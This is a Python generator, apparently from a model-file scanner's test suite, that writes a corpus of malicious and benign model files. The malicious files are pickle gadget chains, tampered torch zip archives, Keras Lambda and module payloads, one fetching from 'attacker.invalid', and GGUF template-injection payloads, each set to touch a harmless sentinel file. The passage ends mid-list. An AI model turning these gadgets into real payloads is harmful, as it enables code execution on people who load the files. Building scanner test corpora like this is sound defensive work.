"""The model-file corpus of the safety tests and of the scanner benchmark: one generator.

:func:`write_corpus` writes, into a folder, malicious files (one per published bypass class of
pickle, archive, numpy, Keras and GGUF scanners) and benign files (real torchvision state
dicts, an optimizer state, numpy arrays, safetensors, Keras configs, GGUF chat templates ...).
Every payload is a real gadget with a harmless argument that would create the folder's
``SENTINEL`` file (or do nothing visible) if it ever ran: a test asserts the file never appears.

The tests import this module from ``tests/models`` (pytest puts that folder on ``sys.path``);
``benchmarks/scanners/corpus.py`` imports it by path, so both use the same files.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import marshal
import os
import pickle
import shlex
import struct
import subprocess
import tarfile
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import torch

__all__ = ["SENTINEL_NAME", "Sample", "write_corpus"]

SENTINEL_NAME = "SENTINEL"

Writer = Callable[[Path, str], None]
"""Write one sample: ``(path, sentinel)``, the sentinel being the file a payload would create."""


@dataclass(frozen=True)
class Sample:
    """One corpus file.

    Attributes:
        name: the file name in the corpus folder (its extension is part of the test).
        malicious: whether loading it with the usual loader could run code.
        kind: the bypass class (with its reference) or what the benign file is.
        expect: for malicious files, a text that must appear in one finding (a global's name
            or a word of the reason); for benign torch files, "torch" (loadable by
            ``torch.load(weights_only=True)``), "torch-full" (needs ``weights_only=False``:
            numpy inside) or "safetensors"; "" otherwise.
        write: the writer.
    """

    name: str
    malicious: bool
    kind: str
    expect: str
    write: Writer


# --- pickle building blocks ------------------------------------------------------------------


def _u(text: str) -> bytes:
    """BINUNICODE."""
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def _short(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = text.encode("utf-8")
    return b"\x8c" + bytes([len(data)]) + data


def _global(module: str, name: str) -> bytes:
    """GLOBAL."""
    return b"c" + f"{module}\n{name}\n".encode()


def _args(*args: object) -> bytes:
    """The opcodes that push ``args`` as one tuple (no PROTO, no STOP)."""
    return pickle.dumps(tuple(args), protocol=2)[2:-1]


def _call(module: str, name: str, *args: object) -> bytes:
    """A complete protocol-2 pickle: ``module.name(*args)``."""
    return b"\x80\x02" + _global(module, name) + _args(*args) + b"R."


class _Reduce:
    """An object whose pickle calls ``function(*args)`` (pickle writes the global itself)."""

    def __init__(self, function: Callable[..., object], *args: object) -> None:
        self.function = function
        self.args = args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.function, self.args


def _dumps(function: Callable[..., object], *args: object, protocol: int = 4) -> bytes:
    return pickle.dumps(_Reduce(function, *args), protocol=protocol)


def _touch(sentinel: str) -> str:
    return f"touch {shlex.quote(sentinel)}"


def _python(sentinel: str) -> str:
    return f"open({sentinel!r}, 'w').close()"


def _bytes_writer(build: Callable[[str], bytes]) -> Writer:
    def write(path: Path, sentinel: str) -> None:
        path.write_bytes(build(sentinel))

    return write


# --- malicious pickles -----------------------------------------------------------------------


def _chain_getattr_import(sentinel: str) -> bytes:
    """``getattr(__import__('os'), 'system')(cmd)``: calls a value the pickle built."""
    return (
        b"\x80\x02"
        + _global("builtins", "getattr")
        + _global("builtins", "__import__")
        + _u("os")
        + b"\x85R"
        + _u("system")
        + b"\x86R"
        + _u(_touch(sentinel))
        + b"\x85R."
    )


def _chain_compile_exec(sentinel: str) -> bytes:
    """``exec(compile(src, '<p>', 'exec'))``."""
    return (
        b"\x80\x02"
        + _global("builtins", "exec")
        + _global("builtins", "compile")
        + _args(_python(sentinel), "<p>", "exec")
        + b"R\x85R."
    )


def _chain_resolve_name(sentinel: str) -> bytes:
    """``pkgutil.resolve_name('os:system')(cmd)`` (GHSA-vvpj-8cmc-gx39, a universal bypass)."""
    return (
        b"\x80\x02"
        + _global("pkgutil", "resolve_name")
        + _u("os:system")
        + b"\x85R"
        + _u(_touch(sentinel))
        + b"\x85R."
    )


def _chain_import_module_attrgetter(sentinel: str) -> bytes:
    """``operator.attrgetter('system')(importlib.import_module('os'))(cmd)``."""
    return (
        b"\x80\x02"
        + _global("operator", "attrgetter")
        + _u("system")
        + b"\x85R"
        + _global("importlib", "import_module")
        + _u("os")
        + b"\x85R\x85R"
        + _u(_touch(sentinel))
        + b"\x85R."
    )


def _chain_methodcaller(sentinel: str) -> bytes:
    """``operator.methodcaller('system', cmd)(importlib.import_module('os'))``."""
    return (
        b"\x80\x02"
        + _global("_operator", "methodcaller")
        + _u("system")
        + _u(_touch(sentinel))
        + b"\x86R"
        + _global("importlib", "import_module")
        + _u("os")
        + b"\x85R\x85R."
    )


def _chain_partial(sentinel: str) -> bytes:
    """``functools.partial(os.system, cmd)()``: a call of a partial object."""
    return (
        b"\x80\x02"
        + _global("functools", "partial")
        + _global("posix", "system")
        + _u(_touch(sentinel))
        + b"\x86R)R."
    )


def _chain_interpreter(sentinel: str) -> bytes:
    """``code.InteractiveInterpreter.runsource(code.InteractiveInterpreter(), src)``, dotted."""
    return (
        b"\x80\x04"
        + _short("code")
        + _short("InteractiveInterpreter.runsource")
        + b"\x93"
        + _short("code")
        + _short("InteractiveInterpreter")
        + b"\x93)R"
        + _u(_python(sentinel))
        + b"\x86R."
    )


def _chain_marshal(sentinel: str) -> bytes:
    """``exec(marshal.loads(code))``."""
    code = marshal.dumps(compile(_python(sentinel), "<p>", "exec"))
    return (
        b"\x80\x03"
        + _global("builtins", "exec")
        + _global("marshal", "loads")
        + pickle.dumps((code,), protocol=3)[2:-1]
        + b"R\x85R."
    )


def _chain_dotted_name_on_allowed_module(sentinel: str) -> bytes:
    """``torch._utils._import_dotted_name('os.system')(cmd)``: allowed module, other name."""
    return (
        b"\x80\x02"
        + _global("torch._utils", "_import_dotted_name")
        + _u("os.system")
        + b"\x85R"
        + _u(_touch(sentinel))
        + b"\x85R."
    )


def _dotted_attribute_path(sentinel: str) -> bytes:
    """``STACK_GLOBAL('collections', 'OrderedDict.__init__.__globals__')``: a dotted path."""
    return (
        b"\x80\x04"
        + _short("collections")
        + _short("OrderedDict.__init__.__globals__")
        + b"\x93"
        + _short(_touch(sentinel))
        + b"\x85R."
    )


def _sys_modules(sentinel: str) -> bytes:
    """``sys.modules['collections'] = importlib.import_module('os')``, then collections.system."""
    return (
        b"\x80\x04"
        + _short("sys")
        + _short("modules")
        + b"\x93"
        + _short("collections")
        + _short("importlib")
        + _short("import_module")
        + b"\x93"
        + _short("posix")
        + b"\x85Rs0"
        + _short("collections")
        + _short("system")
        + b"\x93"
        + _short(_touch(sentinel))
        + b"\x85R."
    )


def _inst(sentinel: str) -> bytes:
    """Protocol 0 ``INST``: the global is inline and the call implicit."""
    return f"(S'{_touch(sentinel)}'\nios\nsystem\n.".encode()


def _obj(sentinel: str) -> bytes:
    """Protocol 1 ``OBJ``: class and arguments after a MARK."""
    return b"(" + _global("os", "system") + _u(_touch(sentinel)) + b"o."


def _os_system_text(sentinel: str) -> bytes:
    """Protocol 0, hand-written: ``os.system`` (pickle itself would write ``posix.system``)."""
    return f"cos\nsystem\n(S'{_touch(sentinel)}'\ntR.".encode()


def _memo_shuffle(sentinel: str) -> bytes:
    """STACK_GLOBAL whose strings come from the memo, after decoy strings (picklescan #22)."""
    return (
        b"\x80\x04"
        + _short("os")
        + b"\x94"  # memo 0
        + _short("system")
        + b"\x94"  # memo 1
        + b"00"  # pop both
        + _short("collections")
        + b"\x94"
        + _short("OrderedDict")
        + b"\x94"
        + b"00"
        + b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL -> os.system
        + _short(_touch(sentinel))
        + b"\x85R."
    )


def _unresolvable_stack_global(sentinel: str) -> bytes:
    """STACK_GLOBAL whose module comes from a persistent id: unknowable without loading."""
    return b"\x80\x04Pposix\n" + _short("system") + b"\x93" + _short(_touch(sentinel)) + b"\x85R."


def _ext_opcode(sentinel: str) -> bytes:
    """EXT2: the global comes from the process's copyreg extension registry."""
    return b"\x80\x02\x83\xe9\x03" + _u(_touch(sentinel)) + b"\x85R."


def _build_setattr(sentinel: str) -> bytes:
    """BUILD's setattr on a global, then a memo-built STACK_GLOBAL (modelscan issue 85)."""
    return (
        b"\x80\x04"
        + _global("numpy", "prod")
        + b"N}"
        + _short("a")
        + _short("os")
        + b"s\x86b"  # BUILD (None, {'a': 'os'}): setattr(numpy.prod, 'a', 'os')
        + b"0"
        + _global("numpy", "prod.a")
        + b"\x94"
        + b"0"
        + b"h\x00"
        + _short("system")
        + b"\x93"
        + _short(_touch(sentinel))
        + b"\x85R."
    )


def _codecs_misuse(sentinel: str) -> bytes:
    """An allowed global, ``_codecs.encode``, with a codec other than latin1."""
    return _call("_codecs", "encode", _python(sentinel), "zlib_codec")


def _nested_pickle(sentinel: str) -> bytes:
    """``pickle.loads(inner)`` (GHSA-84r2-jw7c-4r5q)."""
    inner = _dumps(os.system, _touch(sentinel))
    return b"\x80\x03" + _global("pickle", "loads") + pickle.dumps((inner,), 3)[2:-1] + b"R."


def _concatenated(sentinel: str) -> bytes:
    """A benign pickle, then a malicious one (loaders that read until EOF run both)."""
    return pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + _dumps(os.system, _touch(sentinel))


def _payload_after_stop(sentinel: str) -> bytes:
    """A benign pickle, then a payload with no STOP: still runs when read, then fails."""
    return pickle.dumps([1, 2, 3], protocol=2) + _os_system_text(sentinel)[:-1]


def _broken_after_payload(sentinel: str) -> bytes:
    """A payload followed by an invalid opcode ("nullifAI", ReversingLabs 2025)."""
    return _dumps(os.system, _touch(sentinel), protocol=2)[:-1] + b"\xff\xfe"


def _pickle_gadgets() -> list[Sample]:
    """One pickle per published gadget class (direct calls)."""
    calls: list[tuple[str, str, str, Callable[[str], bytes]]] = [
        ("exec", "builtins.exec", "builtins.exec", lambda s: _dumps(exec, _python(s))),
        ("eval_py2", "builtins.eval (written __builtin__)", "builtins.eval",
         lambda s: _call("__builtin__", "eval", _python(s))),
        ("posix_system", "posix.system (os.system via __reduce__)", "posix.system",
         lambda s: _dumps(os.system, _touch(s), protocol=2)),
        ("subprocess_popen", "subprocess.Popen", "subprocess.Popen",
         lambda s: _dumps(subprocess.Popen, ["touch", s])),
        ("subprocess_run", "subprocess.run", "subprocess.run",
         lambda s: _dumps(subprocess.run, ["touch", s])),
        ("subprocess_check_output", "subprocess.check_output", "subprocess.check_output",
         lambda s: _dumps(subprocess.check_output, ["touch", s])),
        ("commands_getoutput", "commands.getoutput: a Python 2 name for subprocess",
         "subprocess.getoutput", lambda s: _call("commands", "getoutput", _touch(s))),
        ("runpy_run_code", "runpy._run_code", "runpy._run_code",
         lambda s: _call("runpy", "_run_code", _python(s), {})),
        ("runpy_run_path", "runpy.run_path", "runpy.run_path",
         lambda s: _call("runpy", "run_path", s + ".py")),
        ("pty_spawn", "pty.spawn", "pty.spawn", lambda s: _call("pty", "spawn", ["touch", s])),
        ("pip_main", "pip.main (CVE-2025-1716)", "pip.main",
         lambda s: _call("pip", "main", ["--log", s, "--version"])),
        ("webbrowser_open", "webbrowser.open", "webbrowser.open",
         lambda s: _call("webbrowser", "open", "file://" + s)),
        ("shutil_rmtree", "shutil.rmtree", "shutil.rmtree",
         lambda s: _call("shutil", "rmtree", s + ".d", True)),
        ("ctypes_cdll", "ctypes.CDLL", "ctypes.CDLL", lambda s: _call("ctypes", "CDLL", None)),
        ("numpy_runstring", "numpy.testing._private.utils.runstring",
         "numpy.testing._private.utils.runstring",
         lambda s: _call("numpy.testing._private.utils", "runstring", _python(s), {})),
        ("numpy_load", "numpy.load with allow_pickle", "numpy.load",
         lambda s: _call("numpy", "load", s + ".npy", None, True)),
        ("torch_load_nested", "torch.load of another file", "torch.load",
         lambda s: _call("torch", "load", s + ".pt")),
        ("torch_jit_load", "torch.jit.load", "torch.jit.load",
         lambda s: _call("torch.jit", "load", s + ".pt")),
        ("timeit", "timeit.timeit (GHSA-v7x6-rv5q-mhwc)", "timeit.timeit",
         lambda s: _call("timeit", "timeit", _python(s))),
        ("cprofile_run", "cProfile.run", "cProfile.run",
         lambda s: _call("cProfile", "run", _python(s))),
        ("pdb_run", "pdb.run", "pdb.run", lambda s: _call("pdb", "run", _python(s))),
        ("asyncio_transport", "asyncio.unix_events._UnixSubprocessTransport (CVE-2025-10157)",
         "asyncio.unix_events._UnixSubprocessTransport",
         lambda s: _call("asyncio.unix_events", "_UnixSubprocessTransport", None,
                         ["touch", s], True, None, None, None, 0)),
        ("posixsubprocess", "_posixsubprocess.fork_exec", "_posixsubprocess.fork_exec",
         lambda s: _call("_posixsubprocess", "fork_exec", ["touch", s])),
        ("uuid_command", "uuid._get_command_stdout (CVE-2026-56315)",
         "uuid._get_command_stdout",
         lambda s: _call("uuid", "_get_command_stdout", "touch", s)),
        ("ensurepip", "ensurepip._run_pip (GHSA-xp4f-hrf8-rxw7)", "ensurepip._run_pip",
         lambda s: _call("ensurepip", "_run_pip", ["--log", s, "--version"])),
        ("pydoc_pipepager", "pydoc.pipepager", "pydoc.pipepager",
         lambda s: _call("pydoc", "pipepager", "x", _touch(s))),
        ("io_fileio", "_io.FileIO: file handling (CVE-2025-10155 class)", "_io.FileIO",
         lambda s: _call("_io", "FileIO", s, "w")),
    ]  # fmt: skip
    return [
        Sample(f"gadget_{name}.pkl", True, kind, expect, _bytes_writer(build))
        for name, kind, expect, build in calls
    ]


def _pickle_structures() -> list[Sample]:
    """Chains, opcode tricks and stream tricks."""
    rows: list[tuple[str, str, str, Callable[[str], bytes]]] = [
        ("chain_getattr_import.pkl", "builtins.getattr + __import__ chain", "builtins.getattr",
         _chain_getattr_import),
        ("chain_compile_exec.pkl", "builtins.compile + exec", "builtins.compile",
         _chain_compile_exec),
        ("chain_resolve_name.pkl", "pkgutil.resolve_name (GHSA-vvpj-8cmc-gx39)",
         "pkgutil.resolve_name", _chain_resolve_name),
        ("chain_import_module.pkl", "importlib.import_module + operator.attrgetter",
         "importlib.import_module", _chain_import_module_attrgetter),
        ("chain_methodcaller.pkl", "operator.methodcaller (GHSA-m273-6v24-x4m4 class)",
         "_operator.methodcaller", _chain_methodcaller),
        ("chain_partial.pkl", "functools.partial called", "functools.partial", _chain_partial),
        ("chain_interpreter.pkl", "code.InteractiveInterpreter.runsource (dotted name)",
         "code.InteractiveInterpreter", _chain_interpreter),
        ("chain_marshal.pkl", "marshal.loads + exec", "marshal.loads", _chain_marshal),
        ("allowed_module_other_name.pkl", "torch._utils._import_dotted_name",
         "torch._utils._import_dotted_name", _chain_dotted_name_on_allowed_module),
        ("dotted_path.pkl", "a dotted attribute path on an allowed class",
         "collections.OrderedDict.__init__.__globals__", _dotted_attribute_path),
        ("sys_modules.pkl", "sys.modules replaced entry", "sys.modules", _sys_modules),
        ("inst_protocol0.pkl", "INST opcode (protocol 0)", "os.system", _inst),
        ("obj_protocol1.pkl", "OBJ opcode (protocol 1)", "os.system", _obj),
        ("os_system_text.pkl", "GLOBAL os.system, protocol 0 text", "os.system",
         _os_system_text),
        ("memo_shuffle.pkl", "STACK_GLOBAL from memoized strings (picklescan #22)",
         "os.system", _memo_shuffle),
        ("unresolvable_stack_global.pkl", "STACK_GLOBAL from a persistent id",
         "resolved statically", _unresolvable_stack_global),
        ("ext_opcode.pkl", "EXT2 opcode (copyreg registry)", "EXT opcode", _ext_opcode),
        ("build_setattr.pkl", "BUILD setattr on a global (modelscan #85)", "numpy.prod",
         _build_setattr),
        ("codecs_misuse.pkl", "allowed _codecs.encode with another codec", "allowed form",
         _codecs_misuse),
        ("nested_pickle.pkl", "pickle.loads of an inner pickle (GHSA-84r2-jw7c-4r5q)",
         "pickle.loads", _nested_pickle),
        ("concatenated.pkl", "second pickle after a benign one", "posix.system",
         _concatenated),
        ("payload_after_stop.pkl", "payload after STOP without its own STOP", "os.system",
         _payload_after_stop),
        ("broken_after_payload.pkl", "payload then invalid opcode (nullifAI)", "posix.system",
         _broken_after_payload),
    ]  # fmt: skip
    protocols = [
        Sample(
            f"protocol_{protocol}.pkl",
            True,
            f"posix.system at pickle protocol {protocol}",
            "posix.system",
            _bytes_writer(lambda s, p=protocol: _dumps(os.system, _touch(s), protocol=p)),
        )
        for protocol in range(6)
    ]
    return [Sample(n, True, k, e, _bytes_writer(b)) for n, k, e, b in rows] + protocols


# --- malicious archives ----------------------------------------------------------------------


def _torch_bytes(obj: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def _malicious_torch(sentinel: str) -> bytes:
    return _torch_bytes({"weight": torch.ones(2), "hook": _Reduce(os.system, _touch(sentinel))})


def _benign_torch() -> bytes:
    return _torch_bytes(OrderedDict(weight=torch.arange(4.0)))


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def _copy_zip(data: bytes, extra: list[tuple[str, bytes]]) -> bytes:
    """A zip archive's members, plus ``extra`` members."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
    return _zip(members + extra)


def _central_entry(data: bytes, name: str) -> int:
    """Offset of the central-directory record of ``name`` (its name follows 46 fixed bytes)."""
    offset = data.rindex(name.encode()) - 46
    if data[offset : offset + 4] != b"PK\x01\x02":
        raise ValueError(f"no central-directory record for {name}")
    return offset


def _patch(data: bytes, offset: int, new: bytes) -> bytes:
    return data[:offset] + new + data[offset + len(new) :]


def _zip_name_mismatch(sentinel: str) -> bytes:
    """The local header of data.pkl names another file (CVE-2025-1944)."""
    data = _malicious_torch(sentinel)
    local = data.index(b"archive/data.pkl")
    return _patch(data, local, b"archive/xata.pkl")


def _zip_flag_bits(sentinel: str) -> bytes:
    """data.pkl's central record says "encrypted" (CVE-2025-1945)."""
    data = _malicious_torch(sentinel)
    central = _central_entry(data, "archive/data.pkl")
    (flags,) = struct.unpack("<H", data[central + 8 : central + 10])
    return _patch(data, central + 8, struct.pack("<H", flags | 1))


def _zip_bad_crc(sentinel: str) -> bytes:
    """data.pkl's CRC is wrong (CVE-2025-10156)."""
    data = _malicious_torch(sentinel)
    central = _central_entry(data, "archive/data.pkl")
    return _patch(data, central + 16, b"\x00\x00\x00\x00")


def _duplicate_member(sentinel: str) -> bytes:
    """Two members named data.pkl: the benign one first."""
    benign = _benign_torch()
    with zipfile.ZipFile(io.BytesIO(_malicious_torch(sentinel))) as archive:
        payload = archive.read("archive/data.pkl")
    return _copy_zip(benign, [("archive/data.pkl", payload)])


def _torch_broken_payload(sentinel: str) -> bytes:
    """A torch archive whose data.pkl breaks right after its payload (nullifAI)."""
    return _copy_zip(_benign_torch(), [("archive/extra/data.pkl", _broken_after_payload(sentinel))])


def _hidden_member(sentinel: str) -> bytes:
    """A pickle member without a .pkl name next to a benign data.pkl (CVE-2025-1889)."""
    return _copy_zip(
        _benign_torch(), [("archive/config.json", _dumps(os.system, _touch(sentinel)))]
    )


def _deep_pkl(sentinel: str) -> bytes:
    """A *.pkl member deep inside the archive."""
    return _copy_zip(
        _benign_torch(), [("archive/a/b/c/extra.pkl", _dumps(exec, _python(sentinel)))]
    )


def _nested_zip(sentinel: str) -> bytes:
    return _zip([("README.md", b"# weights\n"), ("inner/model.pth", _malicious_torch(sentinel))])


def _tar_gz_bundle(sentinel: str) -> bytes:
    return gzip.compress(_tar([("bundle/model.pth", _malicious_torch(sentinel))]))


def _polyglot(sentinel: str) -> bytes:
    """A malicious pickle with a benign zip appended (pickle.load reads the pickle)."""
    return _dumps(os.system, _touch(sentinel)) + _benign_torch()


def _legacy_torch(sentinel: str) -> bytes:
    buffer = io.BytesIO()
    torch.save({"hook": _Reduce(os.system, _touch(sentinel))}, buffer,
               _use_new_zipfile_serialization=False)  # fmt: skip
    return buffer.getvalue()


def _torchscript(sentinel: str) -> bytes:
    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(2, 2)), buffer)
    return buffer.getvalue()


def _tar(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


class _PersistentTensor:
    """Stands for tensor key ``key`` in the main pickle of a legacy tar checkpoint."""

    def __init__(self, key: str) -> None:
        self.key = key


class _LegacyPickler(pickle.Pickler):
    def persistent_id(self, obj: object) -> str | None:
        return obj.key if isinstance(obj, _PersistentTensor) else None


def _legacy_tar(main: object) -> bytes:
    """The pre-zip tar format of torch (``torch.serialization._legacy_load``'s first branch)."""
    values = struct.pack("<3f", 1.0, 2.0, 3.0)
    storages = (
        pickle.dumps(1, 2)
        + pickle.dumps((0, "cpu", torch.FloatStorage), 2)
        + struct.pack("<q", 3)
        + values
        + pickle.dumps([], 2)
    )
    tensors = (
        pickle.dumps(1, 2)
        + pickle.dumps((1, 0, "FloatTensor"), 2)
        + struct.pack("<i", 1)
        + b"\x00" * 4
        + struct.pack("<qqq", 3, 1, 0)
    )
    buffer = io.BytesIO()
    _LegacyPickler(buffer, protocol=2).dump(main)
    return _tar(
        [
            ("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2)),
            ("pickle", buffer.getvalue()),
            ("storages", storages),
            ("tensors", tensors),
        ]
    )


def _legacy_tar_malicious(sentinel: str) -> bytes:
    return _legacy_tar({"w": _PersistentTensor("1"), "hook": _Reduce(os.system, _touch(sentinel))})


def _archives() -> list[Sample]:
    """Torch archives and other containers."""
    odd = [
        Sample(name, True, f"torch archive named {name!r}", "posix.system",
               _bytes_writer(_malicious_torch))
        for name in ("odd_extension.bin", "odd_extension.ckpt", "odd_extension.pth.tar",
                     "no_extension")
    ]  # fmt: skip
    rows: list[tuple[str, str, str, Callable[[str], bytes]]] = [
        ("torch_archive.pth", "torch.save of a payload", "posix.system", _malicious_torch),
        ("zip_name_mismatch.pth", "local header name differs (CVE-2025-1944)",
         "cannot be read", _zip_name_mismatch),
        ("zip_flag_bits.pth", "encrypted flag bit set (CVE-2025-1945)", "cannot be read",
         _zip_flag_bits),
        ("zip_bad_crc.pth", "bad CRC (CVE-2025-10156)", "cannot be read", _zip_bad_crc),
        ("duplicate_member.pth", "two members named data.pkl", "share this name",
         _duplicate_member),
        ("torch_broken_payload.pth", "broken pickle in an archive (nullifAI)", "posix.system",
         _torch_broken_payload),
        ("hidden_member.pth", "pickle member without a .pkl name (CVE-2025-1889)",
         "posix.system", _hidden_member),
        ("deep_pkl.pth", "*.pkl member at depth", "builtins.exec", _deep_pkl),
        ("nested.zip", "torch archive inside a zip", "posix.system", _nested_zip),
        ("bundle.tar.gz", "torch archive inside a .tar.gz", "posix.system", _tar_gz_bundle),
        ("polyglot.pt", "pickle with a zip appended (polyglot)", "posix.system", _polyglot),
        ("legacy_format.pt", "legacy (pre-zip) torch.save stream", "posix.system",
         _legacy_torch),
        ("legacy_tar.pt", "legacy tar torch checkpoint", "posix.system", _legacy_tar_malicious),
        ("joblib_style.pkl.gz", "gzip-compressed pickle (joblib, pandas)", "posix.system",
         lambda s: gzip.compress(_dumps(os.system, _touch(s)))),
        ("torchscript.pt", "TorchScript archive (torch.load -> torch.jit.load)", "TorchScript",
         _torchscript),
    ]  # fmt: skip
    return odd + [Sample(n, True, k, e, _bytes_writer(b)) for n, k, e, b in rows]


# --- malicious numpy, Keras, GGUF ------------------------------------------------------------


def _npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def _object_array(sentinel: str) -> np.ndarray:
    array = np.empty(2, dtype=object)
    array[0] = "label"
    array[1] = _Reduce(os.system, _touch(sentinel))
    return array


def _npz(arrays: dict[str, np.ndarray], compressed: bool = False) -> bytes:
    buffer = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(buffer, **arrays)  # type: ignore[arg-type]
    return buffer.getvalue()


def _keras_layer(class_name: str, config: dict[str, object], module: str = "keras.layers",
                 registered: str | None = None) -> dict[str, object]:  # fmt: skip
    return {"module": module, "class_name": class_name, "config": config,
            "registered_name": registered}  # fmt: skip


def _dtype_policy() -> dict[str, object]:
    return _keras_layer("DTypePolicy", {"name": "float32"}, module="keras")


def _dense(name: str, units: int, activation: str) -> dict[str, object]:
    initializer = _keras_layer("GlorotUniform", {"seed": None}, module="keras.initializers")
    zeros = _keras_layer("Zeros", {}, module="keras.initializers")
    return _keras_layer("Dense", {
        "name": name, "trainable": True, "dtype": _dtype_policy(), "units": units,
        "activation": activation, "use_bias": True, "kernel_initializer": initializer,
        "bias_initializer": zeros, "kernel_regularizer": None, "bias_regularizer": None,
        "kernel_constraint": None, "bias_constraint": None,
    })  # fmt: skip


def _sequential(layers: list[dict[str, object]]) -> dict[str, object]:
    input_layer = _keras_layer(
        "InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}
    )
    return _keras_layer(
        "Sequential",
        {"name": "sequential", "trainable": True, "dtype": _dtype_policy(),
         "layers": [input_layer, *layers]},
        module="keras",
    )  # fmt: skip


_FAKE_WEIGHTS_H5 = b"\x89HDF\r\n\x1a\n" + b"\x00" * 504
"""The HDF5 signature of ``model.weights.h5`` (no real HDF5 body: the scan reads bytes only)."""


def _keras_archive(config: dict[str, object]) -> bytes:
    metadata = {"keras_version": "3.6.0", "date_saved": "2025-01-01@00:00:00"}
    return _zip(
        [
            ("metadata.json", json.dumps(metadata).encode()),
            ("config.json", json.dumps(config).encode()),
            ("model.weights.h5", _FAKE_WEIGHTS_H5),
        ]
    )


def _keras_lambda(sentinel: str) -> bytes:
    code = base64.b64encode(marshal.dumps(compile(_python(sentinel), "<l>", "exec"))).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None,
                                                        "closure": None}}  # fmt: skip
    layer = _keras_layer("Lambda", {"name": "lambda", "function": function, "arguments": {}})
    return _keras_archive(_sequential([layer]))


def _keras_module(module: str, class_name: str, config: dict[str, object]) -> Writer:
    def build(sentinel: str) -> bytes:
        layer = _keras_layer(class_name, {**config, "sentinel": sentinel}, module=module)
        return _keras_archive(_sequential([_dense("dense", 3, "relu"), layer]))

    return _bytes_writer(build)


def _keras_custom(sentinel: str) -> bytes:
    layer = _keras_layer("Backdoor", {"name": "b", "path": sentinel}, module="evil.layers",
                         registered="evil>Backdoor")  # fmt: skip
    return _keras_archive(_sequential([layer]))


def _legacy_h5(sentinel: str) -> bytes:
    """A Keras 2 ``.h5`` model whose ``model_config`` attribute has a Lambda layer."""
    code = base64.b64encode(marshal.dumps(compile(_python(sentinel), "<l>", "exec"))).decode()
    lambda_layer = {"class_name": "Lambda", "config": {
        "name": "lambda", "function": [code, None, None], "function_type": "lambda"}}  # fmt: skip
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [lambda_layer]}}
    return (
        _FAKE_WEIGHTS_H5
        + b"model_config\x00\x00\x00\x00"
        + json.dumps(config).encode()
        + b"\x00" * 64
    )


def _gguf(metadata: dict[str, object]) -> bytes:
    """A GGUF v3 file without tensors: strings, uint32s and string arrays."""

    def string(text: str) -> bytes:
        data = text.encode("utf-8")
        return struct.pack("<Q", len(data)) + data

    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(metadata))
    for key, value in metadata.items():
        out += string(key)
        if isinstance(value, str):
            out += struct.pack("<I", 8) + string(value)
        elif isinstance(value, int):
            out += struct.pack("<II", 4, value)
        elif isinstance(value, list):
            out += struct.pack("<IIQ", 9, 8, len(value)) + b"".join(string(v) for v in value)
    return out


def _gguf_with_template(template: str) -> bytes:
    return _gguf({
        "general.architecture": "llama", "general.name": "tiny", "llama.block_count": 2,
        "tokenizer.ggml.model": "gpt2", "tokenizer.ggml.tokens": ["<s>", "</s>", "a", "b"],
        "tokenizer.chat_template": template,
    })  # fmt: skip


_LLAMA_DRAMA = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('SENTINEL_CMD').read() }}"
    "{% endif %}{% endfor %}"
)


def _template_writer(template: str, wrap: Callable[[str], bytes]) -> Writer:
    def write(path: Path, sentinel: str) -> None:
        path.write_bytes(wrap(template.replace("SENTINEL_CMD", _touch(sentinel))))

    return write


def _formats() -> list[Sample]:
    """numpy, Keras, GGUF and tokenizer files."""
    rows: list[tuple[str, str, str, Writer]] = [
        ("object_array.npy", "object .npy array with a payload", "posix.system",
         _bytes_writer(lambda s: _npy(_object_array(s)))),
        ("object_array.npz", "object array inside an .npz", "posix.system",
         _bytes_writer(lambda s: _npz({"labels": _object_array(s)}))),
        ("lambda.keras", "Keras Lambda layer (CVE-2024-3660)", "Lambda",
         _bytes_writer(_keras_lambda)),
        ("module_os.keras", "Keras module outside Keras (CVE-2025-1550)", "os.system",
         _keras_module("os", "system", {})),
        ("get_file.keras", "keras.utils.get_file (CVE-2025-8747)", "keras.utils.get_file",
         _keras_module("keras.utils", "get_file", {"origin": "http://attacker.invalid/x"})),
        ("custom_object.keras", "Keras custom object from another package", "evil>Backdoor",
         _bytes_writer(_keras_custom)),
        ("legacy_lambda.h5", "Keras 2 .h5 with a Lambda layer (CVE-2025-9905)", "Lambda",
         _bytes_writer(_legacy_h5)),
        ("llama_drama.gguf", "GGUF chat template SSTI (CVE-2024-34359)", "__class__",
         _template_writer(_LLAMA_DRAMA, _gguf_with_template)),
        ("attr_filter.gguf", "GGUF template through |attr", "|attr",
         _template_writer("{{ messages|attr('__cla' ~ 'ss__') }}", _gguf_with_template)),
        ("string_building.gguf", "GGUF template that assembles '__globals__'", "__globals__",
         _template_writer("{% set k = '_' * 2 ~ 'globals' ~ '_' * 2 %}"
